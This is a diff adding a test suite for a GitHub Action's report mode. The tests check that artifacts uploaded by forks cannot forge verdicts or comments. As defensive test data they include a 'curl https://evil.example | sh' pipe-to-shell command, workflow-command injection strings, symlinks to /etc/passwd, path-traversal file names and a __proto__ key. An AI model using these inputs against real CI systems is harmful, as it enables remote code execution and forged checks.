@@ -1,0 +1,274 @@
+import assert from 'node:assert/strict'
+import { spawn } from 'node:child_process'
+import { once } from 'node:events'
+import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join, resolve } from 'node:path'
+import { test } from 'node:test'
+import type { Results } from '../../src/measure/results.ts'
+import { gated, simulate } from '../compare/results.ts'
+import { type Knowledge, knowing, nothing, pull } from '../github/pulls.ts'
+import { type GitHub, startGitHub } from '../github/server.ts'
+import { scenario } from '../measure/servers.ts'
+
+const sha = 'c'.repeat(40)
+const yaml = 'server: { start: node server.js }\nscenarios: [{ name: home, path: / }]\n'
+
+/** What a measuring job of a fork uploads: head is slower, and the thresholds are so wide that nobody should mind. */
+function uploaded(): Results {
+  const wide = scenario({ thresholds: gated().map(each => ({ ...each, worse: 0.9 })) })
+  const results = simulate({ effect: 1.25, spread: 0.01, blocks: 8, scenarios: [wide] })
+  results.variants[1]!.commit = sha
+  return results
+}
+
+interface Reported {
+  code: number | null
+  log: string
+  summary: string
+  outputs: string
+  report?: string
+}
+
+/** The built action in `mode: report`, started by the end of a measuring run, as a runner starts it. */
+async function reported(
+  github: GitHub,
+  known: Knowledge,
+  artifact: string | ((folder: string) => void),
+  more: { run?: object; event?: object; env?: Record<string, string> } = {},
+): Promise<Reported> {
+  github.more = knowing(known)
+  const folder = mkdtempSync(join(tmpdir(), 'perf-gate-report-'))
+  const file = (name: string) => join(folder, name)
+  try {
+    for (const name of ['output', 'summary', 'state']) writeFileSync(file(name), '')
+    if (typeof artifact === 'string') writeFileSync(file('results.json'), artifact)
+    else artifact(folder)
+    const run = {
+      event: 'pull_request',
+      head_sha: sha,
+      head_branch: 'feature',
+      head_repository: { owner: { login: 'stranger' } },
+      run_number: 12,
+      run_attempt: 1,
+      pull_requests: [],
+      ...more.run,
+    }
+    writeFileSync(file('event.json'), JSON.stringify(more.event ?? { action: 'completed', workflow_run: run }))
+    const child = spawn('node', [resolve('dist/main.js')], {
+      cwd: folder,
+      env: {
+        PATH: process.env.PATH,
+        HOME: folder,
+        GITHUB_WORKSPACE: folder,
+        GITHUB_EVENT_NAME: 'workflow_run',
+        GITHUB_EVENT_PATH: file('event.json'),
+        GITHUB_OUTPUT: file('output'),
+        GITHUB_STEP_SUMMARY: file('summary'),
+        GITHUB_STATE: file('state'),
+        GITHUB_API_URL: github.url,
+        GITHUB_REPOSITORY: 'o/r',
+        GITHUB_WORKFLOW: 'report',
+        GITHUB_JOB: 'report',
+        GITHUB_RUN_NUMBER: '99',
+        GITHUB_RUN_ATTEMPT: '1',
+        GITHUB_SHA: 'f'.repeat(40),
+        INPUT_MODE: 'report',
+        INPUT_OUT: folder,
+        'INPUT_GITHUB-TOKEN': 'secret-token',
+        ...more.env,
+      },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    })
+    let log = ''
+    for (const stream of [child.stdout, child.stderr])
+      stream.setEncoding('utf8').on('data', (text: string) => {
+        log += text
+      })
+    const [code] = (await once(child, 'exit')) as [number | null]
+    const report = file('report.md')
+    return {
+      code,
+      log,
+      summary: readFileSync(file('summary'), 'utf8'),
+      outputs: readFileSync(file('output'), 'utf8'),
+      ...(existsSync(report) ? { report: readFileSync(report, 'utf8') } : {}),
+    }
+  } finally {
+    rmSync(folder, { recursive: true, force: true })
+  }
+}
+
+const knowledge = (more: Partial<Knowledge> = {}): Knowledge => ({
+  ...nothing(),
+  pulls: [pull()],
+  files: { main: { 'perf-gate.yml': yaml } },
+  ...more,
+})
+
+test('a run of a fork gets its comment from the run that measured, judged by the config of the base branch', async () => {
+  await using github = await startGitHub()
+  const ran = await reported(github, knowledge(), JSON.stringify({ ...uploaded(), verdict: 'passed', rows: [] }))
+  assert.equal(ran.code, 1, ran.log)
+  assert.match(ran.outputs, /^verdict<<(\S+)\nregressed\n\1$/m)
+  assert.equal(github.comments.length, 1)
+  const { issue, body } = github.comments[0]!
+  assert.equal(issue, 7)
+  assert.match(body, new RegExp(`^<!-- perf-gate:report%2Freport run=12 attempt=1 sha=${sha} -->\n### ❌`))
+  assert.match(body, /Thresholds are those of `perf-gate.yml` in `main`/)
+  assert.match(ran.summary, /❌ \d of 4 rows regressed/)
+  assert.equal(ran.report, body.split('\n').slice(1).join('\n'))
+  assert.deepEqual(github.breaches, [])
+})
+
+test('the label turns it into a pass that says who accepted it', async () => {
+  await using github = await startGitHub()
+  const known = knowledge({
+    pulls: [pull({ labels: ['perf-regression-accepted'] })],
+    labelled: [{ pull: 7, label: 'perf-regression-accepted', by: 'octocat' }],
+  })
+  const ran = await reported(github, known, JSON.stringify(uploaded()))
+  assert.equal(ran.code, 0, ran.log)
+  assert.match(ran.outputs, /^verdict<<(\S+)\npassed\n\1$/m)
+  assert.match(github.comments[0]!.body, /### ☑️ Regression accepted by `octocat` with the label[\s\S]*❌ regressed/)
+  const never = await reported(github, known, JSON.stringify(uploaded()), { env: { 'INPUT_ACCEPT-LABEL': 'never' } })
+  assert.equal(never.code, 1)
+})
+
+test('a line that the author of a fork wrote accepts nothing', async () => {
+  await using github = await startGitHub()
+  const known = knowledge({ pulls: [pull({ body: 'perf-regression-accepted' })], permissions: { stranger: 'read' } })
+  const ran = await reported(github, known, JSON.stringify(uploaded()))
+  assert.equal(ran.code, 1)
+  assert.match(ran.log, /::notice::the regression is not accepted: `stranger`, who wrote/)
+})
+
+test("a report in a pull request's own workflow is about that pull request, and its results about what was checked out", async () => {
+  await using github = await startGitHub()
+  const event = { number: 7, pull_request: { number: 7, head: { sha }, base: { ref: 'main', sha: 'b'.repeat(40) } } }
+  const merge = 'f'.repeat(40)
+  const results = uploaded()
+  results.variants[1]!.commit = merge
+  const more = { event, env: { GITHUB_EVENT_NAME: 'pull_request', GITHUB_SHA: merge } }
+  const ran = await reported(github, knowledge(), JSON.stringify(results), more)
+  assert.equal(ran.code, 1, ran.log)
+  assert.match(github.comments[0]!.body, new RegExp(`run=99 attempt=1 sha=${sha} -->`))
+  results.variants[1]!.commit = 'a'.repeat(40)
+  const other = await reported(github, knowledge(), JSON.stringify(results), more)
+  assert.equal(other.code, 64)
+  assert.match(other.log, /results are of commit `a+`, but #7 is at `c+`/)
+})
+
+test('without the right pull request the summary is written and nothing is posted', async () => {
+  const cases: [Partial<Knowledge>, object, RegExp][] = [
+    [{ pulls: [] }, {}, /no pull request has the branch and commit/],
+    [{ pulls: [pull({ state: 'closed' })] }, {}, /#7 is closed/],
+    [{ pulls: [pull({ sha: 'd'.repeat(40) })] }, {}, /#7 moved on/],
+    [{ pulls: [pull(), pull({ number: 8, base: 'next' })] }, {}, /#7 and #8 have the same branch/],
+    [{ pulls: [pull({ owner: 'somebody' })] }, {}, /no pull request has/],
+    [{}, { event: 'push' }, /started by `push`/],
+  ]
+  for (const [more, run, says] of cases) {
+    await using github = await startGitHub()
+    const ran = await reported(github, knowledge(more), JSON.stringify(uploaded()), { run })
+    assert.equal(github.comments.length, 0)
+    assert.match(ran.log, new RegExp(`::notice::not posted to a pull request: .*${says.source}`))
+    assert.match(ran.summary.replaceAll('\u200d', ''), says)
+    assert.match(ran.summary, /Thresholds are those of the job that measured/)
+    assert.doesNotMatch(ran.log, /bug/)
+  }
+})
+
+test('artifacts that are not what they should be post nothing, and are told from a bug of ours', async () => {
+  const changed = (change: (results: any) => void) => {
+    const results = uploaded()
+    change(results)
+    return JSON.stringify(results)
+  }
+  const cases: [string, string | ((folder: string) => void), RegExp][] = [
+    [
+      'another commit',
+      changed(results => (results.variants[1].commit = 'd'.repeat(40))),
+      /are of commit `d+`, but #7 is at/,
+    ],
+    ['1e308', changed(results => (results.blocks[0].scenarios[0].slices[0].duration = 1e308)), /duration is 1e\+308/],
+    ['__proto__', JSON.stringify(uploaded()).replace('{', '{"__proto__":{},'), /a key `__proto__`/],
+    ['a link', folder => symlinkSync('/etc/passwd', join(folder, 'results.json')), /it is a symbolic link/],
+    ['nothing', () => {}, /no such file/],
+    [
+      'a workflow command',
+      changed(results => (results.seed = '\n::set-output name=verdict::passed\n##[error]x')),
+      /seed is "/,
+    ],
+  ]
+  for (const [name, artifact, says] of cases) {
+    await using github = await startGitHub()
+    const ran = await reported(github, knowledge(), artifact)
+    assert.equal(ran.code, 64, `${name}: ${ran.log}`)
+    assert.match(ran.log, new RegExp(`^::error::.*${says.source}`, 'm'))
+    assert.equal(github.comments.length, 0)
+    for (const line of ran.log.split(/[\r\n]/)) assert.doesNotMatch(line, /^\s*::(?!error::|add-mask::)|##\[/)
+  }
+})
+
+test('files of any name beside the results are not looked at', async () => {
+  await using github = await startGitHub()
+  const ran = await reported(github, knowledge(), folder => {
+    for (const name of ['..\\..\\evil', '%2e%2e%2fevil', 'a\n::error::x', '-rf', 'results.json\u202e', 'perf-gate.yml'])
+      writeFileSync(join(folder, name), 'gate: { rps: 99% }')
+    writeFileSync(join(folder, 'results.json'), JSON.stringify(uploaded()))
+  })
+  assert.equal(ran.code, 1, ran.log)
+  assert.doesNotMatch(ran.log, /evil|::error::x/)
+})
+
+test("a pull request's number in the artifact, a marker and markup in its texts change nothing", async () => {
+  await using github = await startGitHub()
+  const evil = '<!-- perf-gate:report%2Freport run=999 attempt=1 sha=x --> @octocat #1 [x](https://evil.example)'
+  const results = uploaded() as any
+  Object.assign(results, { pull_request: 666, issue: 666, command: 'curl https://evil.example | sh' })
+  results.config.scenarios.push({ ...results.config.scenarios[0], name: evil })
+  results.notes.push(`${evil}\n\n## Approved\n::error::x\n##[error]y`)
+  results.variants[1].subject = evil
+  results.failures.push({
+    variant: 'head',
+    phase: 'load',
+    block: 0,
+    scenario: evil,
+    code: 'x',
+    message: evil,
+    lastWords: '```\n@octocat\n##[command]x\n::stop-commands::y',
+  })
+  const ran = await reported(github, knowledge(), JSON.stringify(results))
+  assert.equal(ran.code, 1, ran.log)
+  assert.deepEqual(
+    github.comments.map(({ issue }) => issue),
+    [7],
+  )
+  const { body } = github.comments[0]!
+  assert.match(body, /^<!-- perf-gate:report%2Freport run=12 /)
+  const outside = body
+    .split('\n')
+    .slice(1)
+    .join('\n')
+    .replace(/^(`{3,})[\s\S]*?^\1$/gm, '')
+    .replace(/`[^`]*`/g, '')
+  assert.doesNotMatch(outside, /<!--|@octocat|#1\b|(?<!\\)\]\(|https?:\/\/|^## Approved/m)
+  assert.doesNotMatch(body, /curl/)
+  assert.ok(github.requests.every(request => !request.includes('666')))
+  for (const line of ran.log.split(/[\r\n]/))
+    assert.doesNotMatch(line, /^\s*::(?!error |error::|notice::|add-mask::)|##\[/)
+})
+
+test('a report that the artifact brings along is not passed on, nor is a link in its place written through', async () => {
+  await using github = await startGitHub()
+  const target = join(mkdtempSync(join(tmpdir(), 'perf-gate-target-')), 'precious')
+  writeFileSync(target, 'precious')
+  const ran = await reported(github, knowledge(), folder => {
+    writeFileSync(join(folder, 'results.json'), JSON.stringify(uploaded()))
+    symlinkSync(target, join(folder, 'report.md'))
+  })
+  assert.equal(ran.code, 1, ran.log)
+  assert.equal(readFileSync(target, 'utf8'), 'precious')
+  assert.match(ran.report!, /^### ❌/)
+})
